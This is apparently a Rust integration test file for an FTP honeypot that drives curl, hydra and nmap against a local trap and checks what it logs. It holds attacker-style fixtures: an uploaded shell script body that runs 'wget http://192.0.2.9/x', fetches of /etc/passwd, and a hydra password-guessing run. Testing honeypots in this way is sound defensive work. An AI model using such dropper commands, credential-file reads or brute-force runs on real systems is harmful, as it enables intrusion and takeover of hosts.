//! curl, hydra and nmap against `ftp`, with the data connections that they open to `ftpdata`.

use kizashi_event::{Detail, Event};
use kizashi_traps::{Identity, LoginSettings, trap_named};

use crate::house::{House, installed, passwords, said};

/// An installation that lets anonymous visitors in and takes their files.
const OPEN: u8 = 1;

fn house(seed: u8) -> House {
    let traps = ["ftp", "ftpdata", "ftpdata"].map(|name| trap_named(name).unwrap());
    let logins = LoginSettings { tries: 1..=1, ..LoginSettings::default() };
    House::of(&traps, Identity::draw([seed; 32]).with_logins(logins))
}

fn uploads(events: &[Event]) -> Vec<(String, Vec<u8>)> {
    let upload = |event: &Event| {
        let payload = event.detail.payload()?;
        Some((payload.name.as_ref()?.raw().to_owned(), payload.content.clone()))
    };
    events.iter().filter_map(upload).collect()
}

fn curl(house: &House, path: &str, more: &[&str]) -> String {
    let url = format!("ftp://127.0.0.1:{}/{path}", house.port());
    said("curl", &[&["-sS", "--max-time", "60"], more, &[&url]].concat(), None)
}

#[test]
fn curl_lists_uploads_and_downloads_over_passive_connections() {
    if !installed("curl") {
        return;
    }
    let house = house(OPEN);
    let file = std::env::temp_dir().join(format!("kizashi-ftp-{}", std::process::id()));
    let content = b"#!/bin/sh\nwget http://192.0.2.9/x\n".repeat(4_000);
    std::fs::write(&file, &content).unwrap();
    let name = file.to_str().unwrap();
    let account = ["-u", "test:test"];
    assert_eq!(curl(&house, "%2ftmp/x.sh", &[&account[..], &["-T", name]].concat()), "");
    let listing = curl(&house, "%2fetc/", &account);
    assert!(listing.contains(" passwd\r\n") || listing.contains(" passwd\n"), "{listing}");
    let passwd = curl(&house, "%2fetc/passwd", &[&account[..], &["--disable-epsv"]].concat());
    assert!(passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"), "{passwd}");
    // Active connections are wished for and never made.
    let active = curl(&house, "", &[&account[..], &["-P", "-"]].concat());
    assert!(active.starts_with("curl: ("), "{active}");
    std::fs::remove_file(file).unwrap();
    let events = house.close();
    let told = uploads(&events);
    assert_eq!(told.len(), 1);
    assert!(
        told[0].0.ends_with("x.sh") && content.starts_with(&told[0].1) && told[0].1.len() > 60_000
    );
    let forwards = events.iter().filter(|event| matches!(event.detail, Detail::Forward { .. }));
    assert!(forwards.count() >= 1);
}

#[test]
fn curl_lists_uploads_and_downloads_inside_tls_with_private_data_connections() {
    if !installed("curl") {
        return;
    }
    let house = house(OPEN);
    let file = std::env::temp_dir().join(format!("kizashi-ftps-{}", std::process::id()));
    let content = b"#!/bin/sh\nwget http://192.0.2.9/x\n".repeat(1_500);
    std::fs::write(&file, &content).unwrap();
    let name = file.to_str().unwrap();
    let account = ["-u", "test:test", "--ssl-reqd", "-k"];
    assert_eq!(curl(&house, "%2ftmp/x.sh", &[&account[..], &["-T", name]].concat()), "");
    let listing = curl(&house, "%2fetc/", &account);
    assert!(listing.contains(" passwd\n") || listing.contains(" passwd\r\n"), "{listing}");
    for more in [&[][..], &["--tls-max", "1.2"]] {
        let passwd = curl(&house, "%2fetc/passwd", &[&account[..], more].concat());
        assert!(passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"), "{passwd}");
    }
    // The control connection alone.
    let passwd = curl(&house, "%2fetc/passwd", &["-u", "test:test", "--ftp-ssl-control", "-k"]);
    assert!(passwd.starts_with("root:x:0:0:"), "{passwd}");
    std::fs::remove_file(file).unwrap();
    let events = house.close();
    let told = uploads(&events);
    assert_eq!((told.len(), &told[0].1), (1, &content));
    let lines = events.iter().filter_map(|event| match &event.detail {
        Detail::Command { line, .. } => Some(line.raw().to_owned()),
        _ => None,
    });
    let lines: Vec<String> = lines.collect();
    assert!(lines.contains(&"AUTH TLS".to_owned()) || lines.contains(&"AUTH SSL".to_owned()));
    assert!(
        lines.contains(&"PROT P".to_owned()) && lines.contains(&"PROT C".to_owned()),
        "{lines:?}"
    );
}

#[test]
fn curl_reads_where_tls_is_there_from_the_first_byte_on() {
    if !installed("curl") {
        return;
    }
    let house = House::tcp_at(trap_named("ftp").unwrap(), 10_990);
    let url = format!("ftps://{}/", house.address);
    let shown = said(
        "curl",
        &["-sS", "-k", "--max-time", "60", "-u", "anonymous:a@b", "-Q", "PWD", &url],
        None,
    );
    // Data connections have no port in this house; all before that is done.
    assert!(!shown.contains("SSL"), "{shown}");
    assert_eq!(passwords(&house.close()).len(), 1);
}

#[test]
fn hydra_finds_the_weak_password_though_the_server_is_slow_to_refuse() {
    if !installed("hydra") {
        return;
    }
    let house = house(OPEN);
    let list = std::env::temp_dir().join(format!("kizashi-ftp-list-{}", std::process::id()));
    std::fs::write(&list, "zzyzx\nadmin\n").unwrap();
    let (port, file) = (house.port(), list.to_str().unwrap());
    let asked = ["-I", "-t", "1", "-l", "admin", "-P", file, "-s", &port, "127.0.0.1", "ftp"];
    let shown = said("hydra", &asked, None);
    std::fs::remove_file(list).unwrap();
    assert!(shown.contains("1 valid password found"), "{shown}");
    let told = passwords(&house.close());
    assert!(told.contains(&("zzyzx".to_owned(), false)), "{told:?}");
    assert!(told.contains(&("admin".to_owned(), true)), "{told:?}");
}

#[test]
fn nmap_names_the_server_and_lists_what_anonymous_visitors_may_write_to() {
    if !installed("nmap") {
        return;
    }
    let house = house(OPEN);
    let port = house.port();
    let script = "+ftp-anon,+ftp-syst";
    let asked =
        ["-n", "-Pn", "-sV", "--version-light", "--script", script, "-p", &port, "127.0.0.1"];
    let shown = said("nmap", &asked, None);
    house.close();
    assert!(shown.contains("ftp     vsftpd 3.0.3"), "{shown}");
    assert!(shown.contains("Anonymous FTP login allowed (FTP code 230)"), "{shown}");
    assert!(shown.contains("upload [NSE: writeable]"), "{shown}");
    assert!(shown.contains("vsFTPd 3.0.3 - secure, fast, stable"), "{shown}");
}
